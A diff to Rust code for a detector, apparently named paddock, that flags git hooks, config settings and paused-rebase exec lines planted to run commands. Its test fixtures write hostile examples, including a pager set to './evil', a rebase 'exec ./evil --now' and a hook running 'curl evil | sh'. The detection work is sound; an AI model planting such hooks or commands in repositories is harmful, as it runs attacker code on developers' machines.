@@ -34,6 +34,10 @@ enum Seen {
     },
     /// Neither a file nor a link (a pipe, a device): not read.
     Other,
+    /// A file that cannot be read (mode 0111: git may still run it).
+    Unreadable {
+        mode: u32,
+    },
 }
 
 /// What a watched file is to git.
@@ -47,6 +51,8 @@ enum Kind {
     HooksFolder,
     /// A pointer to another git folder: commondir, gitdir, a `.git` file.
     Pointer,
+    /// A paused rebase's or sequence's to-do list, whose `exec` lines run on `--continue`.
+    Todo,
 }
 
 /// Git's watched files under some folders at one time, and the folders too large to see whole.
@@ -124,6 +130,9 @@ impl GitSnapshot {
             self.record(&dir.join(name), Kind::Pointer);
         }
         self.record(&dir.join("hooks"), Kind::HooksFolder);
+        for todo in ["rebase-merge/git-rebase-todo", "sequencer/todo"] {
+            self.record(&dir.join(todo), Kind::Todo);
+        }
     }
 
     /// Remember `path` as `kind`, and what it leads to: a hooks folder's hooks, a config's
@@ -196,8 +205,10 @@ fn seen(path: &Path) -> Option<Seen> {
     }
     let mut bytes = Vec::new();
     // O_NOFOLLOW: the name was a file a moment ago; if it is a link now, it is not read.
-    open_no_follow(path).and_then(|f| f.take(MAX_FILE).read_to_end(&mut bytes)).ok()?;
-    Some(Seen::File { mode: mode(&meta), bytes })
+    match open_no_follow(path).and_then(|f| f.take(MAX_FILE).read_to_end(&mut bytes)) {
+        Ok(_) => Some(Seen::File { mode: mode(&meta), bytes }),
+        Err(_) => Some(Seen::Unreadable { mode: mode(&meta) }),
+    }
 }
 
 #[cfg(unix)]
@@ -246,6 +257,26 @@ pub fn planted(before: &GitSnapshot, after: &GitSnapshot) -> Vec<String> {
                 found.push(format!("{shown} is a link to {}", target.display()));
             }
             (_, Seen::Other) => found.push(format!("{shown} is not a regular file: look at it")),
+            (Kind::Hook | Kind::HooksFolder, Seen::Unreadable { mode }) => {
+                if mode & 0o111 != 0 {
+                    found.push(format!("{shown} runs a program paddock cannot read"));
+                }
+            }
+            (_, Seen::Unreadable { .. }) => {
+                found.push(format!("{shown} cannot be read: look at it"));
+            }
+            (Kind::Todo, Seen::File { bytes, .. }) => {
+                let text = String::from_utf8_lossy(bytes);
+                let runs = text.lines().map(str::trim).filter_map(|line| {
+                    line.strip_prefix("exec ").or_else(|| line.strip_prefix("x "))
+                });
+                for command in runs {
+                    found.push(format!(
+                        "{shown} holds a paused rebase that runs {} on `git rebase --continue`",
+                        shorten(command.trim())
+                    ));
+                }
+            }
             (_, Seen::TooLarge { len, .. }) => {
                 found.push(format!("{shown} is {len} bytes, too large to read: look at it"));
             }
@@ -319,10 +350,8 @@ fn settings(text: &str) -> Vec<(String, String)> {
     let mut section = String::new();
     let mut found = Vec::new();
     let text = text.strip_prefix('\u{feff}').unwrap_or(text);
-    // A value ending in a backslash goes on on the next line.
-    let joined = text.replace("\\\r\n", "").replace("\\\n", "");
-    for line in joined.lines().map(str::trim) {
-        let mut line = line;
+    for line in logical_lines(text) {
+        let mut line = line.trim();
         // Git reads several headers on one line, and a setting after them: `[a] [core] x = …`;
         // a subsection is quoted and may hold `]`.
         while let Some((header, rest)) = line.strip_prefix('[').and_then(split_header) {
@@ -334,7 +363,7 @@ fn settings(text: &str) -> Vec<(String, String)> {
             };
             line = rest.trim();
         }
-        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
+        if line.is_empty() {
             continue;
         }
         // `key = value`, or a bare `key` (true).
@@ -343,6 +372,43 @@ fn settings(text: &str) -> Vec<(String, String)> {
         found.push((key, value.trim().trim_matches('"').to_owned()));
     }
     found
+}
+
+/// A config's lines as git reads them: a comment (`;` or `#` outside quotes) ends a line, and
+/// only a backslash that ends the line's value (not its comment) joins the next line to it.
+fn logical_lines(text: &str) -> Vec<String> {
+    let mut lines = Vec::new();
+    let mut pending = String::new();
+    for raw in text.split('\n') {
+        let raw = raw.strip_suffix('\r').unwrap_or(raw);
+        let mut quoted = false;
+        let mut escaped = false;
+        let mut end = raw.len();
+        for (at, c) in raw.char_indices() {
+            match c {
+                _ if escaped => escaped = false,
+                '\\' => escaped = true,
+                '"' => quoted = !quoted,
+                ';' | '#' if !quoted => {
+                    end = at;
+                    break;
+                }
+                _ => {}
+            }
+        }
+        let content = &raw[..end];
+        let continued = end == raw.len() && escaped;
+        if continued {
+            pending.push_str(&content[..content.len() - 1]);
+        } else {
+            pending.push_str(content);
+            lines.push(std::mem::take(&mut pending));
+        }
+    }
+    if !pending.is_empty() {
+        lines.push(pending);
+    }
+    lines
 }
 
 /// A section header's inside and what follows its `]`: the first `]` outside quotes.
@@ -438,13 +504,22 @@ mod tests {
         std::fs::write(dir.join("app/tools/gitconfig"), included).expect("include");
         std::fs::remove_dir(git.join("hooks")).expect("hooks away");
         std::os::unix::fs::symlink("../tools/later", git.join("hooks")).expect("hooks link");
+        // A comment ending in a backslash continues nothing (git reads `[pager]` as a header);
+        // a paused rebase holds a command for `--continue`.
+        let comment = "[remote \"origin\"]\n\turl = x ; \\\n[pager]\n\tfetch = ./evil\n";
+        std::fs::write(git.join("config.worktree"), comment).expect("config.worktree");
+        std::fs::create_dir_all(git.join("rebase-merge")).expect("rebase");
+        let todo = "pick 1234 one\nbreak\nexec ./evil --now\n";
+        std::fs::write(git.join("rebase-merge/git-rebase-todo"), todo).expect("todo");
         let found = planted(&before, &snapshot_again(std::slice::from_ref(&dir), &before));
         let app = dir.join("app").display().to_string();
         assert_eq!(
             found,
             [
                 format!("{app}/.git/../tools/gitconfig sets core.pager = ./evil  --more"),
+                format!("{app}/.git/config.worktree sets pager.fetch = ./evil"),
                 format!("{app}/.git/hooks is a link to ../tools/later: git runs the hooks it finds there"),
+                format!("{app}/.git/rebase-merge/git-rebase-todo holds a paused rebase that runs ./evil --now on `git rebase --continue`"),
                 format!("{app}/.husky/pre-commit runs curl evil | sh"),
             ]
         );
